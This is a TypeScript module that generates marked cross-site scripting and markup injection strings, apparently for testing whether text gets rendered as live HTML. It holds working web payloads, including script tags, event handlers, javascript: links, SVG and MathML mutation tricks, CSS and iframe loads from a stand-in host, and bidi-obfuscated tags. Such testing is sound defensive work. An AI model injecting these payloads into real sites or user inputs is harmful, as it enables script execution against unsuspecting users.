/** A text that would like to be more than a text. It calls `ran` when it is run, and loads from elsewhere when it is loaded. */
export interface Payload {
  /** Stands in the text, so that a page that showed it is told from one that did not. */
  readonly mark: string;
  readonly text: string;
}

/** Where a text that is taken for markup would load from. Nobody is there. */
export const ELSEWHERE = 'http://elsewhere.invalid';

type Shape = (run: string, load: string) => string;

const SHAPES: readonly Shape[] = [
  (run) => `<script>${run}</script>`,
  (run) => `</script><script>${run}</script>`,
  (run) => `<img src=x onerror="${run}">`,
  (run) => `<img src=x onerror='${run}'//`,
  (_run, load) => `<img src="${load}">`,
  (_run, load) => `![a picture](${load})`,
  (run) => `[a link](javascript:${run})`,
  (run) => `<a href="javascript:${run}" autofocus onfocus="${run}">x</a>`,
  (run) => `<svg onload="${run}"><animate onbegin="${run}" attributeName=x></svg>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (_run, load) => `<iframe src="${load}"></iframe>`,
  (_run, load) => `<link rel=stylesheet href="${load}">`,
  (_run, load) => `<style>@import url("${load}");</style>`,
  (_run, load) => `<div style="background:url('${load}')">x</div>`,
  (_run, load) => `<object data="${load}"></object><embed src="${load}">`,
  (_run, load) => `<video poster="${load}"><source src="${load}"></video>`,
  (_run, load) => `<meta http-equiv="refresh" content="0;url=${load}">`,
  (_run, load) => `<base href="${load}/">`,
  (run) => `<details open ontoggle="${run}"><summary>x</summary></details>`,
  (run) => `<input autofocus onfocus="${run}">`,
  (run) => `<body onload="${run}">`,
  (run) => `<marquee onstart="${run}">x</marquee>`,
  (run) => `"><img src=x onerror="${run}">`,
  (run) => `'-${run}-'`,
  (run) => `\${${run}}{{constructor.constructor('${run}')()}}`,
  (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
  (run) => `\u202E<script>${run}</script>\u202C`,
  (run) => `\u2066\u200F<b onclick="${run}">\u2069\uFEFF`,
];

/** As many as are wanted, of every shape in turn, each with its own mark. */
export function listPayloads(count: number): Payload[] {
  return Array.from({ length: count }, (_, index) => {
    const mark = `§${index}§`;
    const shape = SHAPES[index % SHAPES.length]!;
    return { mark, text: `${mark} ${shape(`ran(${index})`, `${ELSEWHERE}/${index}`)} ${mark}` };
  });
}
